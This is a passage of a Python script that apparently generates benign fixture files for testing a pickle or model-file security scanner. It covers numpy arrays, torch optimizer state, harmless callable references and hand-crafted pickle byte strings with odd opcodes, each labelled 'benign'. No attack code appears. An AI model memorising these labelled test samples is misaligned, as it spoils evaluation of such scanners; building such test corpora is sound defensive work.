    npmisc = {'dt': np.dtype('<f4'), 'sdt': np.dtype([('a', '<i4'), ('b', '<f8', (2,))]),
              'dt64': np.array(['2020-01-01'], dtype='datetime64[D]'), 'f64': np.float64(1.5), 'i64': np.int64(3),
              'str': np.str_('x'), 'masked': np.ma.array([1, 2], mask=[0, 1]), 'mat': np.asmatrix([[1, 2]])}
    tb('numpy_misc.pt', npmisc, 'numpy_misc', 'numpy dtypes (structured), datetime64, scalars, masked array (_mareconstruct), matrix')
    pb('numpy_misc.pkl', npmisc, 'numpy_misc', 'same via pickle', proto=2)
    meth = {'upper': str.upper, 'bound': 'abc'.upper, 'tanh': torch.tanh, 'relu': torch.nn.functional.relu,
            'fromkeys': dict.fromkeys, 'npmean': np.mean, 'len': len, 'sorted': sorted, 'round': round}
    tb('callable_refs.pt', meth, 'harmless_callable_refs',
       'references to harmless callables incl. getattr(str,"upper") and getattr("abc","upper") (pickled via builtins.getattr)')
    pb('namespace_p1.pkl', argparse.Namespace(a=1, b=[2]), 'copyreg_reconstructor',
       'protocol 1: argparse.Namespace via copyreg._reconstructor(cls, object, None)', proto=1)
    lin2 = torch.nn.Linear(2, 2)
    optim = torch.optim.AdamW(lin2.parameters(), lr=1e-3)
    lin2(torch.ones(1, 2)).sum().backward()
    optim.step()
    put('benign/torch/adamw_state.pt', _torch_save_bytes({'optimizer': optim.state_dict(), 'model': lin2.state_dict()}),
        'benign', 'optimizer_state', 'torch.load_weights_only', 'real AdamW optimizer state_dict after one step')
    # numpy benign
    bio = io.BytesIO(); np.save(bio, np.arange(5, dtype=np.float32)); put('benign/numpy/float.npy', bio.getvalue(), 'benign',
                                                                           'npy_plain', 'numpy.load', 'plain float32 .npy')
    bio = io.BytesIO(); np.save(bio, np.array(['a', {'k': 1}, None], dtype=object), allow_pickle=True)
    put('benign/numpy/object_plain.npy', bio.getvalue(), 'benign', 'npy_object_plain', 'numpy.load',
        'object array of str/dict/None (pickled body, no calls beyond numpy reconstruct)')
    bio = io.BytesIO(); np.savez_compressed(bio, a=np.ones(3), b=np.arange(4))
    put('benign/numpy/compressed.npz', _rezip(bio.getvalue(), zipfile.ZIP_DEFLATED), 'benign', 'npz_plain', 'numpy.load', 'savez_compressed')
    # opcode-level benign oddities
    put('benign/pickle/int_hex.pkl', b'(I0x10\nL0x20L\nI01\nI00\nt.', 'benign', 'opcode_text_benign', 'pickle.load',
        'protocol 0 INT/LONG with hex literals and I01/I00 booleans (no globals)')
    put('benign/pickle/mark_pop.pkl', b'\x80\x02(0}q\x00X\x01\x00\x00\x00aK\x01s.', 'benign', 'opcode_text_benign', 'pickle.load',
        'MARK then POP, then a dict (no globals)')
    put('benign/pickle/frame_odd.pkl', b'\x80\x04\x95\x01\x00\x00\x00\x00\x00\x00\x00}\x94(\x8c\x01a\x94K\x01u.', 'benign',
        'opcode_text_benign', 'pickle.load', 'FRAME shorter than its content, plain dict')
    put('benign/pickle/memo_heavy.pkl', pickle.dumps([[1, 2]] * 3 + [{'x': 'y'}] * 2, protocol=0), 'benign',
        'opcode_text_benign', 'pickle.load', 'protocol 0 with memo PUT/GET sharing')
    # a benign torch zip whose only pickle member differs in case (still loads)
    put('benign/torch/case_member_plain.pt', torch_zip(pickle.dumps({'a': 1, 'b': [1.0]}, protocol=2), pkl_name='data.PKL'),
        'benign', 'zip_case_member_plain', 'torch.load_weights_only', 'archive/data.PKL with a plain dict')


def _sig_example(a: int, b: float = 1.5, *args, c: str = 'x', **kw) -> list:
    return []


def _rezip(b, compress):
    zi = zipfile.ZipFile(io.BytesIO(b))
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as out:
        for info in zi.infolist():
            data = zi.read(info.filename)
            n = zipfile.ZipInfo(info.filename, ZDATE)
            n.compress_type = compress
            out.writestr(n, data)
    return bio.getvalue()
